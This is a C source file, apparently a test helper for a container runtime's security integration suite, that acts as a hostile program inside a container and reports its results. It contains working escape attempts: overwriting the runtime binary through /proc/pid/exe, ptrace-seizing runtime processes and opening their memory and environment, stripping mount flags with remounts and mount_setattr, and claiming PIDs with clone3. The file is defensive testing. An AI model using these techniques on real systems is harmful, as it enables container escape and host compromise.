/* What a hostile program in a container tries, as one static binary: the security cases of the integration suite put it
 * into the rootfs. It reports what it got on stdout; the cases judge the host by themselves. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif

struct attr { unsigned long long set, clear, propagation, userns; };

static int clear_flags(int fd, const char *path, unsigned flags) {
    struct attr attr = { .clear = 1 | 2 | 4 | 8 }; /* MOUNT_ATTR_RDONLY, NOSUID, NODEV, NOEXEC */
    int all = syscall(SYS_mount_setattr, fd, path, flags, &attr, sizeof attr) == 0;
    for (int bit = 1; bit <= 8; bit <<= 1) {
        struct attr one = { .clear = bit };
        all |= syscall(SYS_mount_setattr, fd, path, flags, &one, sizeof one) == 0;
    }
    return all;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Calls `visit` for every other process of this pid namespace. */
static void each_process(void (*visit)(int)) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid())
            visit(pid);
    }
    if (proc)
        closedir(proc);
}

static unsigned long long wanted_ino;
static unsigned wanted_dev;
static int kept[4096], kept_count;
static long looked, seen, written, traced;

static int is_runtime(int pid) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return stat(path, &st) == 0 && st.st_ino == wanted_ino && st.st_dev == wanted_dev;
}

static void try_write(const char *path) {
    int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC };
    for (int i = 0; i < 3; i++) {
        int fd = open(path, flags[i] | O_CLOEXEC);
        if (fd < 0)
            continue;
        lseek(fd, 0, SEEK_END);
        written += write(fd, "PWN!", 4) == 4;
        close(fd);
        return;
    }
}

static void watch_exe(int pid) {
    char path[64];
    looked++;
    if (!is_runtime(pid))
        return;
    seen++;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (kept_count < 4096) {
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0)
            kept[kept_count++] = fd;
    }
    try_write(path);
}

/* Until the file `stop` appears: opens the runtime's file through every process that runs from it; afterwards through
 * the descriptors that were kept, also once mount_setattr was asked to make them writable. */
static int exe(char **argv) {
    wanted_dev = strtoul(argv[0], 0, 10), wanted_ino = strtoull(argv[1], 0, 10);
    for (double end = now() + 60; access(argv[2], F_OK) != 0 && now() < end;)
        each_process(watch_exe);
    for (int round = 0; round < 3; round++)
        for (int i = 0; i < kept_count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
            try_write(path);
            clear_flags(kept[i], "", AT_EMPTY_PATH);
            try_write(path);
            int tree = syscall(SYS_open_tree, kept[i], "", AT_EMPTY_PATH | 1 | O_CLOEXEC);
            if (tree >= 0) {
                clear_flags(tree, "", AT_EMPTY_PATH);
                snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
                try_write(path);
                close(tree);
            }
        }
    printf("looked %ld seen %ld kept %d written %ld\n", looked, seen, kept_count, written);
    return 0;
}

/* The same, as the program whose interpreter is /proc/self/exe would be found: by its own executable. */
static void watch_trace(int pid) {
    char path[64];
    looked++;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        /* Only a process that still runs the runtime's code is a find: a program of the container's own is not. */
        if (is_runtime(pid)) {
            traced++;
            printf("traced %d\n", pid);
            fflush(stdout);
        }
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        int status;
        /* A process that is not let go again would stop for ever, and what waits for it with it. */
        for (int i = 0; i < 20000 && waitpid(pid, &status, __WALL | WNOHANG) == 0; i++)
            usleep(100);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = is_runtime(pid) ? opendir(path) : NULL;
    if (fds) {
        seen++;
        printf("fds of %d\n", pid);
        fflush(stdout);
        closedir(fds);
    }
}

static int trace(char **argv) {
    wanted_dev = strtoul(argv[0], 0, 10), wanted_ino = strtoull(argv[1], 0, 10);
    for (double end = now() + 60; access(argv[2], F_OK) != 0 && now() < end;)
        each_process(watch_trace);
    printf("looked %ld seen %ld traced %ld\n", looked, seen, traced);
    return 0;
}

/* Everything of a process that only who may trace it can open. */
static void watch_entry(int pid) {
    static const char *const files[] = { "fd/0", "root", "cwd", "mem", "ns/mnt", "environ" };
    char path[64];
    watch_trace(pid);
    for (int i = 0; i < 6 && is_runtime(pid); i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        seen++;
        printf("%s of %d\n", files[i], pid);
        fflush(stdout);
        close(fd);
    }
}

static unsigned long long number_of(int pid, const char *field) {
    char path[64], line[256];
    unsigned long long number = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "re");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, field, strlen(field)))
            number = strtoull(line + strlen(field), 0, 16);
    if (status)
        fclose(status);
    return number;
}

/* With CAP_SYS_PTRACE in the user namespace of the runtime: what enters is open to it. It must hold nothing of the host's:
 * no root from which a file of the host's can be read, no directory, no capability beyond the container's and `left`. */
static int seize(char **argv) {
    wanted_dev = strtoul(argv[0], 0, 10), wanted_ino = strtoull(argv[1], 0, 10);
    unsigned long long most = number_of(getpid(), "CapBnd:") | strtoull(argv[4], 0, 16);
    int newest = 0;
    char path[4096];
    for (double end = now() + 60; access(argv[2], F_OK) != 0 && now() < end;) {
        FILE *load = fopen("/proc/loadavg", "re");
        if (!load || fscanf(load, "%*s %*s %*s %*s %d", &newest) != 1)
            return 1;
        fclose(load);
        for (int pid = newest - 1; pid <= newest + 3; pid++) {
            int status;
            if (pid <= 0 || pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0))
                continue;
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            for (int i = 0; i < 20000 && waitpid(pid, &status, __WALL | WNOHANG) == 0; i++)
                usleep(100);
            if (is_runtime(pid)) {
                looked++;
                snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[3]);
                if (access(path, F_OK) == 0 && ++seen)
                    printf("the host's files by %d\n", pid);
                unsigned long long more = number_of(pid, "CapPrm:") & ~most;
                if (more && ++traced)
                    printf("capabilities %llx of %d\n", more, pid);
                for (int fd = 3; fd < 64; fd++) {
                    snprintf(path, sizeof path, "/proc/%d/fd/%d/..%s", pid, fd, argv[3]);
                    if (access(path, F_OK) == 0 && ++seen)
                        printf("a directory of the host by %d\n", pid);
                }
            }
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    printf("looked %ld seen %ld traced %ld\n", looked, seen, traced);
    return 0;
}

/* The same as trace, of the newest processes only: what lives for a moment is looked at in that moment.
 * With `own`, of those only whose executable can be seen to be the runtime's. */
static int enter(char **argv, int own) {
    wanted_dev = strtoul(argv[0], 0, 10), wanted_ino = strtoull(argv[1], 0, 10);
    int newest = 0;
    for (double end = now() + 60; access(argv[2], F_OK) != 0 && now() < end;) {
        FILE *load = fopen("/proc/loadavg", "re");
        if (!load || fscanf(load, "%*s %*s %*s %*s %d", &newest) != 1)
            return 1;
        fclose(load);
        for (int pid = newest - 4; pid <= newest + 4; pid++)
            if (pid > 0 && pid != getpid() && looked++ >= 0 && (!own || is_runtime(pid)))
                watch_entry(pid);
    }
    printf("looked %ld seen %ld traced %ld\n", looked, seen, traced);
    return 0;
}

#define LOCKED (ST_RDONLY | ST_NOSUID | ST_NODEV | ST_NOEXEC)

/* Whether a mount has lost one of the flags that the host gave it, or can be written. */
static void judge(const char *dir, unsigned long before, const char *how, const char *where) {
    struct statvfs now;
    char path[4096];
    if (statvfs(dir, &now) == 0 && (before & LOCKED & ~now.f_flag))
        printf("lifted %lx by %s %s\n", before & LOCKED & ~now.f_flag, how, where);
    snprintf(path, sizeof path, "%s/written", dir);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) {
        printf("wrote after %s %s\n", how, where);
        close(fd);
    }
}

/* Every way to get rid of a mount's flags: remounts, mount_setattr, copies. */
static void lift(const char *dir, const char *where) {
    char path[64];
    struct statvfs st;
    unsigned long flags[] = { 0, MS_NOSUID, MS_NODEV, MS_NOEXEC, MS_NOSUID | MS_NODEV, MS_NOSUID | MS_NODEV | MS_NOEXEC };
    if (statvfs(dir, &st))
        return;
    for (int i = 0; i < 6; i++) {
        mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND | flags[i], NULL);
        judge(dir, st.f_flag, "a remount", where);
        mount(NULL, dir, NULL, MS_REMOUNT | flags[i], NULL);
        judge(dir, st.f_flag, "a remount of the file system", where);
    }
    clear_flags(AT_FDCWD, dir, 0);
    judge(dir, st.f_flag, "mount_setattr", where);
    int tree = syscall(SYS_open_tree, AT_FDCWD, dir, 1 | O_CLOEXEC);
    if (tree >= 0) {
        clear_flags(tree, "", AT_EMPTY_PATH);
        snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
        judge(path, st.f_flag, "mount_setattr of a clone", where);
    }
    mkdir("/tmp/copy", 0755);
    if (mount(dir, "/tmp/copy", NULL, MS_BIND | MS_REC, NULL) == 0) {
        for (int i = 0; i < 6; i++)
            mount(NULL, "/tmp/copy", NULL, MS_REMOUNT | MS_BIND | flags[i], NULL);
        judge("/tmp/copy", st.f_flag, "a remount of a copy", where);
        clear_flags(AT_FDCWD, "/tmp/copy", 0);
        judge("/tmp/copy", st.f_flag, "mount_setattr of a copy", where);
    }
}

static int remount(char **argv) {
    lift(argv[0], "here");
    fflush(stdout);
    if (fork() == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
            lift(argv[0], "in a user namespace");
            /* A mount that was laid over something must not come off in a namespace that only copied it. */
            if (umount2(argv[0], MNT_DETACH) == 0)
                printf("lifted by umount in a user namespace\n");
        }
        fflush(stdout);
        _exit(0);
    }
    wait(NULL);
    printf("done\n");
    return 0;
}

/* The descriptors that the program was given, and where they lead. */
static int fds(void) {
    DIR *dir = opendir("/proc/self/fd");
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        int fd = atoi(entry->d_name);
        char path[64], link[4096];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t len = readlink(path, link, sizeof link - 1);
        if (entry->d_name[0] == '.' || fd == dirfd(dir) || fd < 3)
            continue;
        printf("%d %.*s\n", fd, (int)(len < 0 ? 0 : len), link);
    }
    printf("done\n");
    return 0;
}

/* A process with this very number, whose root is `dir`, until stdin ends. */
static int take(char **argv) {
    int number = atoi(argv[0]);
    unsigned long long args[11] = { [4] = SIGCHLD, [8] = (unsigned long)&number, [9] = 1 }; /* struct clone_args: set_tid */
    long child = syscall(SYS_clone3, args, sizeof args);
    if (child < 0)
        return 1;
    if (child == 0) {
        if (chroot(argv[1]) == 0 && chdir("/") == 0)
            pause();
        _exit(1);
    }
    printf("taken\n");
    fflush(stdout);
    for (char byte; read(0, &byte, 1) > 0;)
        ;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 5 && !strcmp(argv[1], "exe"))
        return exe(argv + 2);
    if (argc == 5 && !strcmp(argv[1], "trace"))
        return trace(argv + 2);
    if (argc == 5 && !strcmp(argv[1], "enter"))
        return enter(argv + 2, 0);
    if (argc == 7 && !strcmp(argv[1], "seize"))
        return seize(argv + 2);
    if (argc == 5 && !strcmp(argv[1], "enter-own"))
        return enter(argv + 2, 1);
    if (argc == 4 && !strcmp(argv[1], "take"))
        return take(argv + 2);
    if (argc == 3 && !strcmp(argv[1], "remount"))
        return remount(argv + 2);
    if (argc == 2 && !strcmp(argv[1], "fds"))
        return fds();
    return 2;
}
